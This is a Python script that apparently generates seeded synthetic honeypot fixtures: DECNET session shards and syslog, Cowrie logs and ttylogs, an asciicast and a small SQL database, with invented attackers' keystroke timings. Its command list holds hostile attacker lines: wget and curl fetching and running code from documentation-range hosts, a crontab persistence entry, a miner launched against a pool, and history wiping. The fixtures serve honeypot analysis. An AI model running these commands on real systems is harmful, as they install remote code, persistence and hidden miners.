#!/usr/bin/env python3
"""Makes the recordings and the database that Scripts/run shows things with. Seeded: running it again writes the same bytes.

Three made-up typists work on three operators' honeypots; every identity is invented (documentation addresses, names beginning with "canary").
"""
import hashlib
import json
import pathlib
import random
import struct

HERE = pathlib.Path(__file__).resolve().parent
DAY = 1776643200  # 2026-04-20T00:00:00Z

COMMANDS = {
    "adelheid": ["uname -a; id; cat /etc/os-release", "cd /tmp && wget http://198.51.100.77/x.sh -O .x; chmod 755 .x; ./.x &",
                 "crontab -l; (crontab -l; echo '*/7 * * * * /tmp/.x') | crontab -", "history -c && exit"],
    "bertram": ["ls -la /root /home", "find / -name '*.conf' -newer /etc/hostname 2>/dev/null | head", "ps auxww | grep -v root | sort -nk3 | tail",
                "netstat -tulpen; ss -s; last -20; w", "logout"],
    "clothilde": ["free -m; df -h; nproc; lscpu | grep -i model", "mkdir -p /var/tmp/.q && cd /var/tmp/.q && curl -sO http://203.0.113.9/k.tgz",
                  "tar xzf k.tgz; nohup ./k/run --pool 192.0.2.250:3333 >/dev/null 2>&1 &", "rm -f k.tgz ~/.bash_history; exit"],
}


def typed(typist: str, seed: int, speed: float, texts: list[str] | None = None):
    """(seconds, key) of one session: every pair of keys has its own habit of the typist, with some noise on top."""
    habits = random.Random(typist)
    noise = random.Random(f"{typist} {seed}")
    habit: dict[str, float] = {}
    now, keys, previous = 0.7, [], ""
    for text in (texts or COMMANDS[typist]):
        for key in text + "\r":
            pair = previous + key
            if pair not in habit:
                habit[pair] = speed * random.Random(f"{typist} {pair}").lognormvariate(0, 0.55)
            now += habit[pair] * noise.lognormvariate(0, 0.04)
            keys.append((round(now, 6), key))
            previous = key
        now += 1.6 + habits.random() * 2
        previous = ""
    return keys


def shard(path: pathlib.Path, sid: str, start: int, keys):
    lines = [json.dumps({"sid": sid, "hdr": {"version": 2, "width": 80, "height": 24, "timestamp": start, "env": {"TERM": "xterm"}}}, separators=(",", ":"))]
    for at, key in keys:
        for channel in "io":
            lines.append('{"sid":"%s","t":%.6f,"ch":"%s","d":%s}' % (sid, at + (0.002 if channel == "o" else 0), channel, json.dumps(key)))
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as file:
        file.write("\n".join(lines) + "\n")
    return keys[-1][0]


def syslog(host: str, app: str, message: str, at: int, **values):
    data = " ".join('%s="%s"' % item for item in values.items())
    time = "2026-04-20T%02d:%02d:%02d.000000+00:00" % ((at - DAY) // 3600, (at - DAY) // 60 % 60, (at - DAY) % 60)
    return f"<134>1 {time} {host} {app} - {message} [relay@55555 {data}]\n"


def ttylog(folder: pathlib.Path, start: int, keys) -> str:
    def record(operation, direction, at, data=b""):
        return struct.pack("<iIiiII", operation, 0, len(data), direction, start + int(at), round(at % 1 * 1e6)) + data
    body = record(1, 0, 0)
    digest = hashlib.sha256()
    for at, key in keys:
        body += record(3, 1, at, key.encode()) + record(3, 2, at + 0.002, key.encode())
        digest.update(key.encode())
    body += record(2, 0, keys[-1][0] + 0.5)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / digest.hexdigest()).write_bytes(body)
    return digest.hexdigest()


def operator_1():
    """DECNET: a shard and a log."""
    root = HERE / "operator-1"
    log = ""
    shard_path = root / "artifacts/canary-decky-01/ssh/transcripts/sessions-2026-04-20.jsonl"
    shard_path.parent.mkdir(parents=True, exist_ok=True)
    shard_path.write_text("")
    for number, (typist, address) in enumerate([("adelheid", "192.0.2.11"), ("bertram", "198.51.100.12")]):
        sid = "5a3e%04d-0000-4c0d-8000-%012d" % (number + 1, number + 1)
        end = shard(shard_path, sid, DAY + 3600 * number, typed(typist, 1, 0.14 + 0.05 * number))
        log += syslog("canary-decky-01", "sessrec", "session_recorded", DAY + 3600 * number + 300, sid=sid, service="ssh", src_ip=address,
                      duration_s="%.3f" % end, bytes=4000, truncated="false")
    for number, (address, recipient) in enumerate([("192.0.2.11", "canary.one@mail.victim-bank.example.com"), ("198.51.100.12", "canary.two@victim-bank.example.com"),
                                                   ("198.51.100.12", "canary.three@hospital.example.org")]):
        log += syslog("canary-mail-01", "smtp", "rcpt_to", DAY + 7200 + number, src=address, value=f"<{recipient}>")
    (root / "decnet.log").write_text(log)


def operator_2():
    """Cowrie: a log and ttylogs. The first typist comes here too, and types the same."""
    root = HERE / "operator-2"
    lines = []
    for number, (typist, seed, address) in enumerate([("adelheid", 2, "192.0.2.31"), ("clothilde", 1, "203.0.113.33")]):
        start = DAY + 86400 * number + 5400
        keys = typed(typist, seed, 0.14 + 0.09 * number)
        name = ttylog(root / "tty", start, keys)
        common = {"session": "c0ffee%06d" % (number + 1), "protocol": "ssh", "src_ip": address, "src_port": 40000 + number, "dst_ip": "192.0.2.200",
                  "dst_port": 2222, "sensor": "canary-sensor-01", "uuid": "canary-uuid-0001"}
        time = "2026-04-%02dT01:30:00.000000Z" % (20 + number)
        lines.append({"eventid": "cowrie.session.connect", **common, "timestamp": time})
        lines.append({"eventid": "cowrie.login.success", **common, "username": "root", "password": f"canary-password-{number}", "timestamp": time})
        lines.append({"eventid": "cowrie.log.closed", **common, "ttylog": f"var/lib/cowrie/tty/{name}", "size": len(keys), "shasum": name, "duplicate": False,
                      "duration_ms": round(keys[-1][0] * 1000), "timestamp": time})
        lines.append({"eventid": "cowrie.session.closed", **common, "duration_ms": round(keys[-1][0] * 1000), "timestamp": time})
    (root / "cowrie.json").write_text("".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines))


def operator_3():
    """An asciicast, and a DECNET database as SQL (tables cut to what matters here)."""
    root = HERE / "operator-3"
    root.mkdir(parents=True, exist_ok=True)
    keys = typed("bertram", 2, 0.19)
    cast = [json.dumps({"version": 2, "width": 80, "height": 24, "timestamp": DAY + 86400, "env": {"TERM": "xterm"}})]
    for at, key in keys:
        cast.append(json.dumps([at, "i", key]))
        cast.append(json.dumps([round(at + 0.002, 6), "o", key]))
    (root / "session.cast").write_text("\n".join(cast) + "\n")
    sql = ["CREATE TABLE attackers (uuid VARCHAR NOT NULL, ip VARCHAR NOT NULL, first_seen DATETIME NOT NULL, last_seen DATETIME NOT NULL, PRIMARY KEY (uuid));",
           "CREATE TABLE smtp_targets (id INTEGER NOT NULL, attacker_uuid VARCHAR NOT NULL, domain VARCHAR NOT NULL, first_seen DATETIME NOT NULL, "
           "last_seen DATETIME NOT NULL, count INTEGER NOT NULL, PRIMARY KEY (id), UNIQUE (attacker_uuid, domain));"]
    for number in range(4):
        uuid = "cafe%04d-dec0-4bad-8a7a-%012d" % (number, number)
        sql.append(f"INSERT INTO attackers VALUES ('{uuid}', '203.0.113.{50 + number}', '2026-04-19 08:00:00.000000', '2026-04-21 09:00:00.000000');")
        domain = ["victim-bank.example.com", "www.victim-bank.example.com", "town-hall.example.net", "hospital.example.org"][number]
        sql.append(f"INSERT INTO smtp_targets VALUES ({number + 1}, '{uuid}', '{domain}', '2026-04-19 08:00:00.000000', '2026-04-21 09:00:00.000000', {number + 2});")
    (root / "decnet.sql").write_text("\n".join(sql) + "\n")


if __name__ == "__main__":
    operator_1()
    operator_2()
    operator_3()
